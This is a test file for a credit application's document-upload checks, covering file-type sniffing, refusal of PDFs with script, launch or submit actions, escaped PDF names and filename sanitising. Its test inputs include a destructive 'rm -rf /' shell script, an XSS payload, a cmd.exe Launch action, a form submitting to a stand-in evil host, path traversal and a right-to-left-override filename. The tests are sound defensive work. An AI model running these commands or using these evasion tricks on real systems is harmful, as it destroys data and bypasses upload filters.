import { describe, expect, it } from "vitest";
import {
  buildPdf,
  encryptedPdf,
  plainPdf,
  pdfWithEmbeddedFile,
  pdfWithHarmlessObjectStream,
  pdfWithJavaScript,
  pdfWithJavaScriptInObjectStream,
  stream,
  windowsExecutable,
} from "../../tests/support/credit-files";
import {
  checkPdfText,
  decodePdfName,
  documentDisplayName,
  isFlateOnly,
  pdfNames,
  pdfObjectStreams,
  sniffDocumentType,
} from "./credit-documents";
import { DOCUMENT_FORM_MAX_BYTES, MAX_DOCUMENT_BYTES } from "./credit-steps";
import { CREDIT_DOCUMENT_BODY_BYTES, edgeAnswer, maxBodyBytesFor } from "../../scripts/edge.js";

/**
 * The credit application's upload rules (decision 038), on their own: the type comes from the
 * bytes, never the name; a PDF's active content is found however its names are spelled; a
 * file's name is only ever text to show.
 */
const bytes = (...values: number[]) => new Uint8Array(values);
const latin1 = (buffer: Buffer) => buffer.toString("latin1");

describe("the type is what the bytes are", () => {
  it("knows a PDF, a PNG and a JPEG by their first bytes", () => {
    expect(sniffDocumentType(plainPdf())).toBe("application/pdf");
    expect(sniffDocumentType(Buffer.from("%PDF-2.0\n"))).toBe("application/pdf");
    expect(sniffDocumentType(bytes(0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0))).toBe("image/png");
    expect(sniffDocumentType(bytes(0xff, 0xd8, 0xff, 0xe0, 0, 0x10))).toBe("image/jpeg");
  });

  it.each([
    ["a Windows program renamed .pdf", windowsExecutable()],
    ["an ELF program", Buffer.from("\x7fELF\x02\x01\x01", "latin1")],
    ["a shell script", Buffer.from("#!/bin/sh\nrm -rf /\n")],
    ["an HTML page", Buffer.from("<!doctype html><script>alert(1)</script>")],
    ["a ZIP (a Word file)", Buffer.from("PK\x03\x04\x14\x00", "latin1")],
    ["a GIF", Buffer.from("GIF89a")],
    ["an SVG", Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"/>')],
    ["a PDF header after other bytes (a polyglot)", Buffer.concat([Buffer.from("MZ\0\0"), plainPdf()])],
    ["a PDF header with no version", Buffer.from("%PDF-")],
    ["a PDF header with a made-up version", Buffer.from("%PDF-9.9\n")],
    ["half a PNG signature", bytes(0x89, 0x50, 0x4e, 0x47)],
    ["two bytes of JPEG", bytes(0xff, 0xd8)],
    ["nothing", bytes()],
  ])("refuses %s", (_what, file) => {
    expect(sniffDocumentType(file)).toBeNull();
  });
});

describe("a PDF's names", () => {
  it("decodes #xx escapes as a reader does", () => {
    expect(decodePdfName("J#61vaScript")).toBe("JavaScript");
    expect(decodePdfName("#4A#53")).toBe("JS");
    expect(pdfNames("<< /Type /Action /S /J#61vaScript /JS (x) >>")).toEqual([
      "Type",
      "Action",
      "S",
      "JavaScript",
      "JS",
    ]);
  });

  it("passes a plain document", () => {
    expect(checkPdfText(latin1(plainPdf()))).toEqual({ ok: true });
  });

  it.each([
    ["a JavaScript action", latin1(pdfWithJavaScript())],
    ["a hex-escaped JavaScript action", latin1(pdfWithJavaScript(true))],
    ["an embedded file", latin1(pdfWithEmbeddedFile())],
    ["a Launch action", "<< /S /Launch /F (cmd.exe) >>"],
    ["rich media", "<< /Type /Annot /Subtype /RichMedia >>"],
    ["an XFA form", "<< /AcroForm << /XFA 9 0 R >> >>"],
    ["a form that submits itself", "<< /S /SubmitForm /F (https://evil.example) >>"],
    ["a name in other letter case", "<< /S /javascript /js (x) >>"],
    ["a name written entirely in escapes", "<< /#4C#61#75#6E#63#68 (x) >>"],
  ])("refuses %s", (_what, text) => {
    const result = checkPdfText(text);
    expect(result.ok).toBe(false);
    if (!result.ok) expect(result.problem).toBe("pdfActive");
  });

  it("refuses an encrypted document, which it cannot read", () => {
    expect(checkPdfText(latin1(encryptedPdf()))).toEqual({ ok: false, problem: "pdfEncrypted", name: "Encrypt" });
  });

  it("matches whole names only, and errs on the side of refusing", () => {
    // "/JSON", "/Launcher" and "/JavaScripts" are other names.
    expect(checkPdfText("<< /JSON 1 /Launcher 2 /JavaScripts 3 >>").ok).toBe(true);
    // The scan does not parse strings: "/JS" written in a text string is refused too (a false
    // alarm costs a re-saved file; a miss could run script on the business's computer).
    expect(checkPdfText("<< /JSON 1 >> (call /JS later)").ok).toBe(false);
  });
});

describe("a PDF's object streams", () => {
  it("are found, with their data's place, so the server can inflate them", () => {
    const file = pdfWithJavaScriptInObjectStream();
    const text = latin1(file);
    // The raw text does not show the hidden action: only the inflated stream does.
    expect(checkPdfText(text).ok).toBe(true);
    const streams = pdfObjectStreams(text);
    expect(streams).toHaveLength(1);
    expect(isFlateOnly(streams[0]!.dictionary)).toBe(true);
    expect(text.slice(streams[0]!.end, streams[0]!.end + 9)).toBe("endstream");
  });

  it("leaves out streams that are not object streams (page contents)", () => {
    expect(pdfObjectStreams(latin1(plainPdf()))).toEqual([]);
    expect(pdfObjectStreams(latin1(pdfWithHarmlessObjectStream()))).toHaveLength(1);
  });

  it("tells FlateDecode alone from filters the server does not read", () => {
    expect(isFlateOnly("<< /Type /ObjStm /Filter /FlateDecode >>")).toBe(true);
    expect(isFlateOnly("<< /Type /ObjStm /Filter [/FlateDecode] >>")).toBe(true);
    expect(isFlateOnly("<< /Type /ObjStm /Filter [/ASCII85Decode /FlateDecode] >>")).toBe(false);
    expect(isFlateOnly("<< /Type /ObjStm /Filter /LZWDecode >>")).toBe(false);
    expect(isFlateOnly("<< /Type /ObjStm >>")).toBe(false);
  });

  it("finds an object stream whose type name is escaped", () => {
    const file = buildPdf(["<< /Type /Catalog >>", stream("/Type /Obj#53tm /N 0 /First 0 /Filter /FlateDecode", "x")]);
    expect(pdfObjectStreams(latin1(file))).toHaveLength(1);
  });
});

describe("the name a document is listed under", () => {
  it.each([
    ["statements.pdf", "statements.pdf"],
    ["C:\\Users\\me\\Desktop\\statements.pdf", "statements.pdf"],
    ["../../etc/passwd", "passwd"],
    ["invoice\u202efdp.exe", "invoicefdp.exe"],
    ["  spaced  .pdf  ", "spaced  .pdf"],
    ["<script>alert(1)</script>.pdf", "script>.pdf"],
    ["", "document.pdf"],
    ["\u0000\u0007", "document.pdf"],
  ])("%j → %j", (raw, shown) => {
    expect(documentDisplayName(raw, "application/pdf")).toBe(shown);
  });

  it("is at most 200 characters", () => {
    expect([...documentDisplayName(`${"é".repeat(300)}.pdf`, "application/pdf")]).toHaveLength(200);
    expect(documentDisplayName("", "image/png")).toBe("image.png");
    expect(documentDisplayName("", "image/jpeg")).toBe("image.jpg");
  });
});

describe("the front door's limit for the documents step", () => {
  it("is the step's own limit, on the page's and the script's path", () => {
    expect(CREDIT_DOCUMENT_BODY_BYTES).toBe(DOCUMENT_FORM_MAX_BYTES);
    expect(DOCUMENT_FORM_MAX_BYTES).toBeGreaterThan(MAX_DOCUMENT_BYTES);
    expect(maxBodyBytesFor("/credit/documents")).toBe(DOCUMENT_FORM_MAX_BYTES);
    expect(maxBodyBytesFor("/credit/documents.data")).toBe(DOCUMENT_FORM_MAX_BYTES);
    expect(maxBodyBytesFor("/credit/documents?change=1")).toBe(DOCUMENT_FORM_MAX_BYTES);
    expect(maxBodyBytesFor("/credit/business")).toBe(64 * 1024);
    expect(maxBodyBytesFor("/credit/documentsX")).toBe(64 * 1024);
  });

  it("answers a larger upload with a page naming the limit and leading back to the step", () => {
    const { body, headers } = edgeAnswer(413, "/credit/documents");
    expect((headers as Record<string, string>)["Content-Type"]).toMatch(/text\/html/);
    expect(body).toContain("each document may be at most 10 MB");
    expect(body).toContain('<a href="/credit/documents">Back to your documents</a>');
  });
});
